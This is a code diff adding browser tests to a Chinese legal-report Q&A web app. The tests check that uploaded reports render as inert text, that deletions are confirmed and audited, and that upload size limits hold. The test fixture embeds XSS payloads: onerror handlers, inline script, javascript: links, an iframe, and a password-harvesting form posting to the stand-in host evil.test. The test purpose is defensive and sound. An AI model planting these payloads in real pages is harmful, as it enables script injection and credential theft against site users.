@@ -30,6 +30,26 @@ XSS_REPORT = """测试市2022年法治政府建设年度报告
 """
 
 
+# Every way report text could turn into markup: tags, handlers, forms, javascript: links,
+# Markdown images and links. Nothing of it may become an element or a request.
+EVIL = "evil.test"
+HOSTILE_REPORT = f"""恶意市2022年法治政府建设年度报告<img src="http://{EVIL}/title.png">
+一、主要举措和成效
+（一）推进行政复议规范化
+1.提升复议质效。2022年，恶意市共受理行政复议案件88件<img src="http://{EVIL}/a.png" \
+onerror="window.__xss=1">，其中调解结案13件。
+2.加强行政复议宣传。全年开展行政复议宣传活动520场次<form action="http://{EVIL}/steal">\
+<input name="pw" placeholder="请输入管理密码"><button>提交</button></form>。
+3.规范行政复议执法。行政复议人员持证率达到98%<script>window.__xss=2</script>，\
+![宣传图](http://{EVIL}/md.png)。
+4.优化行政复议服务。走访企业1500家[点击查看](javascript:window.__xss=3)，\
+<a href="javascript:window.__xss=4">详情</a><iframe src="http://{EVIL}/frame"></iframe>。
+"""
+# Elements that must never appear (anywhere on the page, whichever tab).
+FORBIDDEN = (f"img[src*='{EVIL}'], iframe, form, input[name=pw], a[href^='javascript'], "
+             f"[onerror], script:not([src]):has-text('__xss')")
+
+
 def _require_chromium() -> None:
     if CHROMIUM.exists():
         return
@@ -43,7 +63,10 @@ def _require_chromium() -> None:
 def app_server(tmp_path_factory):
     _require_chromium()
     tmp = tmp_path_factory.mktemp("ui-browser")
-    with running_app(tmp / "store", tmp / "app.log", seed=seed_cache(tmp_path_factory)) as server:
+    # small upload limits, so the guard on Gradio's upload route is cheap to hit
+    env = {"FAZHI_MAX_UPLOAD_MB": "1", "FAZHI_MAX_UPLOAD_FILES": "2"}
+    with running_app(tmp / "store", tmp / "app.log", seed=seed_cache(tmp_path_factory),
+                     env=env) as server:
         yield server
 
 
@@ -61,6 +84,9 @@ def browser(app_server):
 def page(browser, app_server, request):
     context = browser.new_context(locale="zh-CN", viewport={"width": 1400, "height": 1000})
     page = context.new_page()
+    page.outside_requests = []  # any request not to the app (there must be none)
+    page.on("request", lambda r: None if r.url.startswith(("http://127.0.0.1", "data:", "blob:"))
+            else page.outside_requests.append(r.url))
     page.set_default_timeout(TIMEOUT_MS)
     page.goto(app_server.url)
     page.wait_for_selector("#question textarea")
@@ -171,3 +197,110 @@ def test_document_markup_renders_as_text(page, tmp_path):
     assert page.evaluate("() => typeof window.__xss") == "undefined"
     assert page.locator("#chatbot img[src='x']").count() == 0
     assert page.locator("#chatbot script").count() == 0
+
+
+def _assert_inert(page, where: str) -> None:
+    page.wait_for_timeout(300)  # let any image or frame start loading
+    assert page.locator(FORBIDDEN).count() == 0, where
+    assert page.evaluate("() => typeof window.__xss") == "undefined", where
+    assert not page.outside_requests, (where, page.outside_requests)
+
+
+def test_hostile_report_stays_text_in_every_tab(page, tmp_path):
+    path = tmp_path / "恶意市2022年法治政府建设年度报告.txt"
+    path.write_text(HOSTILE_REPORT, encoding="utf-8")
+    assert "已导入" in upload(page, path)
+    table = page.locator("#kb-table")
+    table.get_by_text("恶意市2022年法治政府建设年度报告", exact=False).first.wait_for()
+    _assert_inert(page, "知识库")
+
+    page.get_by_role("tab", name="问答").click()
+    answer = ask(page, "恶意市2022年开展行政复议宣传活动多少场次？")
+    text = answer.inner_text()
+    assert "520场次" in text and f'<form action="http://{EVIL}/steal">' in text
+    page.locator("#filter-reports").click()
+    _assert_inert(page, "问答")
+    page.keyboard.press("Escape")
+
+    page.get_by_role("tab", name="学习材料").click()
+    page.fill("#study-topic textarea", "行政复议")
+    page.click("#study-brief-go")
+    brief = page.locator("#study-brief .fz-study")
+    brief.get_by_text("520场次", exact=False).first.wait_for()
+    assert f"![宣传图](http://{EVIL}/md.png)" in brief.inner_text()
+    assert "[点击查看](javascript:window.__xss=3)" in brief.inner_text()
+    _assert_inert(page, "专题资料")
+
+    page.get_by_role("tab", name="测验").click()
+    page.fill("#quiz-seed textarea", "abc")
+    page.click("#study-quiz-go")
+    page.locator("#study-quiz").get_by_text("随机种子应为整数").wait_for()
+    page.fill("#quiz-seed textarea", "7")
+    page.fill("#quiz-topic textarea", "行政复议")
+    page.click("#study-quiz-go")
+    page.locator("#study-quiz .fz-study h1").wait_for()
+    _assert_inert(page, "测验")
+
+
+def test_delete_asks_for_confirmation_and_is_audited(page, app_server, tmp_path):
+    path = tmp_path / "删除县2023年法治政府建设年度报告.txt"
+    path.write_text("删除县2023年法治政府建设年度报告\n一、主要举措和成效\n"
+                    "2023年，删除县新建法律援助工作站12个。\n", encoding="utf-8")
+    assert "已导入" in upload(page, path)
+    table = page.locator("#kb-table")
+    table.get_by_text("删除县2023年法治政府建设年度报告", exact=True).wait_for()  # lists refreshed
+    choice = page.locator("#kb-delete-choice input")
+    choice.click()
+    page.locator("#kb-delete-choice [role=option]", has_text="删除县2023年法治政府建设年度报告").click()
+    page.click("#kb-delete")
+    confirm = page.locator("#kb-confirm-text")
+    confirm.get_by_text("确定要删除《删除县2023年法治政府建设年度报告》吗").wait_for()
+    page.click("#kb-cancel-delete")
+    confirm.wait_for(state="hidden")
+    assert "删除县2023年法治政府建设年度报告" in table.inner_text()
+    page.click("#kb-delete")
+    page.click("#kb-confirm-delete")
+    page.locator("#kb-status").get_by_text("已删除：删除县2023年法治政府建设年度报告").wait_for()
+    page.wait_for_function("() => !document.querySelector('#kb-table').innerText"
+                           ".includes('删除县2023年')")
+    rows = [json.loads(line) for line in _lines(app_server.store / "audit.jsonl")]
+    assert [r["action"] for r in rows if "删除县" in r["target"]] == ["upload", "delete"]
+    assert rows[-1]["client"] == "127.0.0.1"
+
+
+def test_gradio_upload_route_is_bounded(app_server):
+    import urllib.error
+    import urllib.request
+
+    def post(size: int) -> int:
+        boundary = "fzboundary"
+        body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; "
+                f"filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n").encode() \
+            + b"x" * size + f"\r\n--{boundary}--\r\n".encode()
+        req = urllib.request.Request(app_server.url + "gradio_api/upload", data=body,
+                                     headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
+        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+        try:
+            with opener.open(req, timeout=30) as r:
+                return r.status
+        except urllib.error.HTTPError as e:
+            return e.code
+        except (urllib.error.URLError, ConnectionError):  # refused while still sending
+            return 413
+
+    assert post(1000) == 200
+    assert post(2 * 1024 * 1024) == 413  # one file over FAZHI_MAX_UPLOAD_MB (Gradio's check)
+
+    # A request declaring more than 2 files x 1 MB is refused before its body is read.
+    import http.client
+    from urllib.parse import urlparse
+
+    url = urlparse(app_server.url)
+    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
+    conn.putrequest("POST", "/gradio_api/upload")
+    conn.putheader("Content-Type", "multipart/form-data; boundary=x")
+    conn.putheader("Content-Length", str(4 * 1024 * 1024))
+    conn.endheaders()
+    response = conn.getresponse()
+    assert response.status == 413 and "超过" in json.loads(response.read())["error"]
+    conn.close()
